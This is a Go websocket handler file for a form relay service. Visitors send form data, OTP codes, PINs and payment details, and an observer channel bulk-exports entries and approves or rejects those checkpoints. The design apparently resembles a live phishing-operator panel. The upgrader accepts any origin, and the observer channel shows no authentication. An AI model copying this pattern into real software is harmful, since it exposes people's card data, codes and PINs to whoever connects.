package handlers

import (
	"encoding/json"
	"net/http"
	"time"

	"github.com/AtRiskMedia/formrelay-go/internal/application/container"
	"github.com/AtRiskMedia/formrelay-go/internal/domain/approval"
	"github.com/AtRiskMedia/formrelay-go/internal/domain/events"
	"github.com/AtRiskMedia/formrelay-go/internal/infrastructure/messaging"
	"github.com/AtRiskMedia/formrelay-go/pkg/config"
	"github.com/gin-gonic/gin"
	"github.com/google/uuid"
	"github.com/gorilla/websocket"
)

// ChannelHandlers upgrades HTTP requests into visitor and observer
// channels and runs one dispatch loop per connection.
type ChannelHandlers struct {
	container *container.Container
	upgrader  websocket.Upgrader
}

// NewChannelHandlers creates new channel handlers
func NewChannelHandlers(container *container.Container) *ChannelHandlers {
	return &ChannelHandlers{
		container: container,
		upgrader: websocket.Upgrader{
			ReadBufferSize:  1024,
			WriteBufferSize: 1024,
			CheckOrigin:     func(r *http.Request) bool { return true },
		},
	}
}

// VisitorChannel handles GET /ws/visitor.
func (h *ChannelHandlers) VisitorChannel(c *gin.Context) {
	h.serve(c, messaging.RoleVisitor)
}

// ObserverChannel handles GET /ws/observer.
func (h *ChannelHandlers) ObserverChannel(c *gin.Context) {
	h.serve(c, messaging.RoleObserver)
}

func (h *ChannelHandlers) serve(c *gin.Context, role messaging.Role) {
	logger := h.container.Logger

	conn, err := h.upgrader.Upgrade(c.Writer, c.Request, nil)
	if err != nil {
		logger.Channel().Error("Websocket upgrade failed", "error", err.Error(), "role", role)
		return
	}

	client := messaging.NewClient(uuid.NewString(), role, conn, config.ChannelSendBuffer)
	h.container.Hub.Register(client)

	go client.WritePump(
		time.Duration(config.ChannelWriteTimeoutSeconds)*time.Second,
		time.Duration(config.ChannelPongTimeoutSeconds)*time.Second*9/10,
	)

	h.readLoop(client)
}

// readLoop decodes inbound envelopes and dispatches them until the
// connection drops, then unregisters the client. Malformed messages are
// dropped with a logged warning; they never tear the connection down.
func (h *ChannelHandlers) readLoop(client *messaging.Client) {
	logger := h.container.Logger
	pongTimeout := time.Duration(config.ChannelPongTimeoutSeconds) * time.Second

	defer h.container.Hub.Unregister(client)

	client.Conn.SetReadDeadline(time.Now().Add(pongTimeout))
	client.Conn.SetPongHandler(func(string) error {
		client.Conn.SetReadDeadline(time.Now().Add(pongTimeout))
		return nil
	})

	for {
		_, message, err := client.Conn.ReadMessage()
		if err != nil {
			if websocket.IsUnexpectedCloseError(err, websocket.CloseGoingAway, websocket.CloseNormalClosure) {
				logger.Channel().Warn("Channel closed unexpectedly", "channelId", client.ChannelID, "error", err.Error())
			}
			return
		}

		var env events.Envelope
		if err := json.Unmarshal(message, &env); err != nil {
			logger.Channel().Warn("Malformed envelope dropped", "channelId", client.ChannelID, "error", err.Error())
			continue
		}

		switch client.Role {
		case messaging.RoleVisitor:
			h.dispatchVisitor(client, env)
		case messaging.RoleObserver:
			h.dispatchObserver(client, env)
		}
	}
}

func (h *ChannelHandlers) dispatchVisitor(client *messaging.Client, env events.Envelope) {
	logger := h.container.Logger

	switch env.Event {
	case events.EventIdentify:
		var payload events.IdentifyPayload
		if err := json.Unmarshal(env.Data, &payload); err != nil || payload.Identity == "" {
			logger.Channel().Warn("Identify dropped: missing identity", "channelId", client.ChannelID)
			return
		}
		client.BindIdentity(payload.Identity)
		h.container.SessionService.Register(client.ChannelID, payload.Identity)
		if h.container.Store != nil {
			if _, err := h.container.Store.EnsurePartition(payload.Identity); err != nil {
				logger.Database().Error("Partition ensure on identify failed", "error", err.Error())
			}
		}

	case events.EventPageChange:
		var payload events.PageChangePayload
		if err := json.Unmarshal(env.Data, &payload); err != nil {
			logger.Channel().Warn("Page change dropped: malformed payload", "channelId", client.ChannelID)
			return
		}
		identity, ok := h.verifiedIdentity(client, payload.Identity)
		if !ok {
			return
		}
		h.container.SessionService.SetLocation(identity, payload.Page, payload.Step)

	case events.EventSubmit:
		var payload events.SubmitPayload
		if err := json.Unmarshal(env.Data, &payload); err != nil {
			logger.Channel().Warn("Submit dropped: malformed payload", "channelId", client.ChannelID)
			return
		}
		identity, ok := h.verifiedIdentity(client, payload.Identity)
		if !ok {
			return
		}
		// Validation failures are already logged by the pipeline.
		h.container.EntryService.Submit(identity, payload.Topic, payload.Fields, payload.Page, payload.Step)

	case events.EventCheckpointPayment, events.EventCheckpointOTP, events.EventCheckpointPIN:
		var payload events.CheckpointPayload
		if err := json.Unmarshal(env.Data, &payload); err != nil {
			logger.Channel().Warn("Checkpoint dropped: malformed payload", "channelId", client.ChannelID)
			return
		}
		identity, ok := h.verifiedIdentity(client, payload.Identity)
		if !ok {
			return
		}
		kind := checkpointKind(env.Event)
		data := approval.Data{
			MaskedCard: payload.MaskedCard,
			Phone:      payload.Phone,
			Amount:     payload.Amount,
			Code:       payload.Code,
		}
		session, _ := h.container.SessionService.Get(identity)
		h.container.ApprovalService.CreateCheckpoint(identity, kind, data, session.CurrentPage, session.CurrentStep)

	case events.EventDecisionPayment, events.EventDecisionOTP, events.EventDecisionPIN:
		// Development-only escape hatch: a visitor deciding its own
		// checkpoint defeats human gating, so it stays off by default.
		if !config.EnableSelfDecision {
			logger.Channel().Warn("Self-decision dropped: capability disabled", "channelId", client.ChannelID)
			return
		}
		var payload events.DecisionPayload
		if err := json.Unmarshal(env.Data, &payload); err != nil {
			return
		}
		identity, ok := h.verifiedIdentity(client, payload.Identity)
		if !ok {
			return
		}
		h.container.ApprovalService.Decide(identity, decisionKind(env.Event), payload.Decision)

	default:
		logger.Channel().Warn("Unknown visitor event dropped", "event", env.Event, "channelId", client.ChannelID)
	}
}

func (h *ChannelHandlers) dispatchObserver(client *messaging.Client, env events.Envelope) {
	logger := h.container.Logger

	switch env.Event {
	case events.EventBulkRequest:
		var payload events.BulkRequestPayload
		if err := json.Unmarshal(env.Data, &payload); err != nil {
			logger.Channel().Warn("Bulk request dropped: malformed payload", "channelId", client.ChannelID)
			return
		}
		result := h.container.ExportService.Query(payload.Topic, payload.Since, payload.Limit)
		h.container.Hub.SendToChannel(client.ChannelID, events.EventBulkResponse, result)

	case events.EventDecisionPayment, events.EventDecisionOTP, events.EventDecisionPIN:
		var payload events.DecisionPayload
		if err := json.Unmarshal(env.Data, &payload); err != nil || payload.Identity == "" {
			logger.Channel().Warn("Decision dropped: malformed payload", "channelId", client.ChannelID)
			return
		}
		// Conflicts (no matching pending request) are logged by the service.
		h.container.ApprovalService.Decide(payload.Identity, decisionKind(env.Event), payload.Decision)

	default:
		logger.Channel().Warn("Unknown observer event dropped", "event", env.Event, "channelId", client.ChannelID)
	}
}

// verifiedIdentity enforces identity equality between the payload and the
// channel's bound identity. Events before identify, or claiming another
// visitor's identity, are dropped.
func (h *ChannelHandlers) verifiedIdentity(client *messaging.Client, claimed string) (string, bool) {
	bound := client.Identity()
	if bound == "" {
		h.container.Logger.Channel().Warn("Event before identify dropped", "channelId", client.ChannelID)
		return "", false
	}
	if claimed != "" && claimed != bound {
		h.container.Logger.Channel().Warn("Identity mismatch dropped", "channelId", client.ChannelID)
		return "", false
	}
	return bound, true
}

func checkpointKind(event string) approval.Kind {
	switch event {
	case events.EventCheckpointPayment:
		return approval.KindPayment
	case events.EventCheckpointOTP:
		return approval.KindOTP
	default:
		return approval.KindPIN
	}
}

func decisionKind(event string) approval.Kind {
	switch event {
	case events.EventDecisionPayment:
		return approval.KindPayment
	case events.EventDecisionOTP:
		return approval.KindOTP
	default:
		return approval.KindPIN
	}
}
